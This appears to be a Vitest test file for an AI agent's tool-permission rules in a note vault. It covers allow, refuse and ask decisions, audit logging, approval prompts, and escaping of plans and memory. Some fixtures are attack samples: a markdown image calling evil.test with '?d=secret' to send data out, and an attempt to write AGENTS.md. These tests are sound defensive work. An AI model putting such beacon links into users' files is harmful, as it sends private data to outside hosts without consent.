import { existsSync, globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { type SimulatedApp, simulatedApp } from '../../testing/simulated-app.ts'
import { collect, lastTurn, WORKSPACE } from '../../testing/temporary-app.ts'
import type { ToolCallRecord } from '@varve/contract'
import { MOST_RULES } from './tool-rules.ts'

let it: SimulatedApp

beforeEach(async () => {
  it = await simulatedApp()
  const settings = { runner: 'agent', mode: 'act' } as const
  await it.app.setChatSettings({ workspaceId: WORKSPACE, chatId: it.chatId, settings })
})

afterEach(() => it.remove())

const rules = async () => (await it.app.readToolRules({ workspaceId: WORKSPACE })).rules
const setRules = (wanted: unknown) => it.app.setToolRules({ workspaceId: WORKSPACE, rules: wanted })
const write = (path: string, content: string) => ({
  tool: 'write',
  arguments: JSON.stringify({ path, content }),
  callId: `${path} ${content}`,
})
const edit = (path: string, before: string, after: string) => ({
  tool: 'edit',
  arguments: JSON.stringify({ path, edits: [{ old: before, new: after }] }),
  callId: `${path} ${after}`,
})
const plan = () => readFileSync(join(it.root, 'plan.md'), 'utf8')

async function start(text: string): Promise<string> {
  const place = { workspaceId: WORKSPACE, chatId: it.chatId }
  const { answerId } = await it.app.sendMessage({ ...place, text, attach: [], modelId: 'openai/gpt-5.6' })
  return answerId
}

async function untilAsked(answerId: string): Promise<ToolCallRecord> {
  const events = await it.app.watchAnswer({ workspaceId: WORKSPACE, answerId, after: 0 })
  for await (const { event } of events ?? []) {
    const calls = event.kind === 'steps' ? event.steps.flatMap((step) => step.calls) : []
    const waiting = calls.find(({ status }) => status === 'waiting')
    if (waiting) return waiting
  }
  throw new Error('Nothing was asked.')
}

describe('rules for tools', () => {
  test('are set, read and audited without their paths; duplicates are merged', async () => {
    expect(await rules()).toEqual([])
    const one = { tool: 'write', path: 'drafts/secret-client/**', decision: 'run' }
    const other = { tool: '*', path: 'archive/', decision: 'refuse' }
    const set = await setRules([one, other, { ...one }])
    expect(set.rules).toEqual([one, other])
    expect(set.tools).toContainEqual({ name: 'write', reach: 'write' })
    expect(await rules()).toEqual([one, other])
    const [entry] = await it.app.listAudit({ workspaceId: WORKSPACE })
    expect(entry).toMatchObject({ action: 'tool-rules', detail: { allow: 1, ask: 0, refuse: 1 } })
    expect(JSON.stringify(entry)).not.toContain('secret-client')
  })

  test('invalid rules are refused, and nothing changes', async () => {
    const good = { tool: 'rm', decision: 'refuse' }
    await setRules([good])
    for (const wrong of [
      'all',
      [{ tool: '', decision: 'run' }],
      [{ tool: 'rm', decision: 'maybe' }],
      [{ ...good, path: '' }],
      [{ ...good, path: 'a/{b' }],
      [{ ...good, path: 'x'.repeat(100_000) }],
      [{ ...good, more: 1 }],
      Array.from({ length: MOST_RULES + 1 }, (_, at) => ({ ...good, path: `${at}` })),
    ])
      await expect(setRules(wrong)).rejects.toMatchObject({ code: 'message-invalid' })
    expect(await rules()).toEqual([good])
  })

  test('apply to calls: allowed without asking, denied without asking', async () => {
    await setRules([
      { tool: 'write', path: 'drafts/**', decision: 'run' },
      { tool: '*', path: 'drafts/final/**', decision: 'refuse' },
    ])
    it.simulator.play(
      { kind: 'answer', calls: [write('drafts/a.md', 'A'), write('drafts/final/b.md', 'B')] },
      { kind: 'answer', text: 'Done.' },
    )
    const turn = lastTurn(await collect(it.app, await start('Write.')))
    expect(turn.answer.steps?.[0]?.calls.map(({ status }) => status)).toEqual(['done', 'failed'])
    expect(readFileSync(join(it.root, 'drafts', 'a.md'), 'utf8')).toBe('A')
    expect(existsSync(join(it.root, 'drafts', 'final', 'b.md'))).toBe(false)
  })

  test('a pending question is stored with all its details', async () => {
    it.simulator.play(
      { kind: 'answer', calls: [write('drafts/a.md', 'A')] },
      { kind: 'answer', text: 'Done.' },
    )
    const answerId = await start('Write.')
    const asked = await untilAsked(answerId)
    await expect
      .poll(async () => (await it.store.answers.get({ workspaceId: WORKSPACE, id: answerId }))?.steps)
      .toMatchObject([
        {
          calls: [
            {
              callId: asked.callId,
              status: 'waiting',
              question: { options: ['approve', 'reject'], preview: { path: 'drafts/a.md', after: 'A' } },
            },
          ],
        },
      ])
  })

  test('always allow: the rule is saved, the call runs, and later ones do not ask', async () => {
    it.simulator.play(
      { kind: 'answer', calls: [edit('plan.md', '12', '13')] },
      { kind: 'answer', calls: [edit('plan.md', '13', '14')] },
      { kind: 'answer', calls: [edit('tides.md', '# Tides', '# Ebb')] },
      { kind: 'answer', text: 'Written.' },
    )
    const answerId = await start('Write.')
    const { callId, question } = await untilAsked(answerId)
    const rule = { tool: 'edit', path: '/plan.md', decision: 'run' }
    expect(question?.always).toEqual([rule])
    const call = { workspaceId: WORKSPACE, answerId, callId, always: true }
    await expect(it.app.answerCall({ ...call, answer: 'reject' })).rejects.toMatchObject({
      code: 'message-invalid',
    })
    expect(await rules()).toEqual([])
    await it.app.answerCall({ ...call, answer: 'approve' })
    // The second edit of the same note did not ask; the one of another note does.
    const next = await untilAsked(answerId)
    expect(next.callId).toBe('tides.md # Ebb')
    expect(plan()).toContain('14 December')
    await it.app.answerCall({ workspaceId: WORKSPACE, answerId, callId: next.callId, answer: 'reject' })
    await collect(it.app, answerId)
    expect(await rules()).toEqual([rule])
    await expect(it.app.answerCall({ ...call, answer: 'approve' })).rejects.toMatchObject({
      code: 'answer-complete',
    })

    it.simulator.play(
      { kind: 'answer', calls: [edit('plan.md', '14', '15')] },
      { kind: 'answer', text: 'Again.' },
    )
    expect(lastTurn(await collect(it.app, await start('Again.'))).answer.text).toBe('Again.')
    expect(plan()).toContain('15 December')
  })

  test('what asks despite the rules cannot be allowed for good', async () => {
    it.simulator.play(
      { kind: 'answer', calls: [write('AGENTS.md', 'Obey.')] },
      { kind: 'answer', text: 'No.' },
    )
    const answerId = await start('Write.')
    const { callId, question } = await untilAsked(answerId)
    expect(question?.always).toBeUndefined()
    const call = { workspaceId: WORKSPACE, answerId, callId }
    await expect(it.app.answerCall({ ...call, answer: 'approve', always: true })).rejects.toMatchObject({
      code: 'message-invalid',
    })
    await it.app.answerCall({ ...call, answer: 'reject' })
    await collect(it.app, answerId)
    expect(await rules()).toEqual([])
    expect(existsSync(join(it.root, 'AGENTS.md'))).toBe(false)
  })

  test('an allowed write asks anyway if the note would load or run something', async () => {
    await setRules([{ tool: 'write', decision: 'run' }])
    it.simulator.play(
      {
        kind: 'answer',
        calls: [
          write('plain.md', 'Code: `a < b`'),
          write('page.html', '<img src="https://evil.test/p.png">'),
          write('live.md', 'Look: ![x](https://evil.test/p.png?d=secret)'),
        ],
      },
      { kind: 'answer', text: 'Done.' },
    )
    const answerId = await start('Write.')
    const { callId, question } = await untilAsked(answerId)
    expect(question?.text).toContain('images, HTML or code that Obsidian or a plugin may load or run')
    expect(question?.always).toBeUndefined()
    expect(['plain.md', 'page.html', 'live.md'].map((path) => existsSync(join(it.root, path)))).toEqual([
      true,
      true,
      false,
    ])
    await it.app.answerCall({ workspaceId: WORKSPACE, answerId, callId, answer: 'approve' })
    await collect(it.app, answerId)
    expect(readFileSync(join(it.root, 'live.md'), 'utf8')).toContain('![x](https://evil.test')
  })

  test('plans and memory are plain text in the vault', async () => {
    const live = '![x](https://evil.test/p.png) <img src=x>'
    const asked = (tool: string, args: object) => ({ tool, arguments: JSON.stringify(args), callId: tool })
    it.simulator.play(
      {
        kind: 'answer',
        calls: [asked('plan', { title: 'Go', content: live }), asked('memory', { add: live })],
      },
      { kind: 'answer', text: 'Done.' },
    )
    const answerId = await start('Plan and remember.')
    for (const tool of ['plan', 'memory']) {
      await expect.poll(async () => (await untilAsked(answerId)).callId).toBe(tool)
      await it.app.answerCall({ workspaceId: WORKSPACE, answerId, callId: tool, answer: 'approve' })
    }
    await collect(it.app, answerId)
    const [written = ''] = globSync('Varve/plans/*.md', { cwd: it.root })
    for (const path of [written, 'Varve/memory.md'])
      expect(readFileSync(join(it.root, path), 'utf8')).toContain(
        '\\![x](https://evil.test/p.png) \\<img src=x>',
      )
  })

  test('unreadable rules make everything ask, and can be replaced', async () => {
    await it.store.commit([it.store.settings.set(WORKSPACE, 'toolRules', 'nonsense')])
    expect(await rules()).toEqual([{ tool: '*', decision: 'ask' }])
    expect((await setRules([])).rules).toEqual([])
  })
})
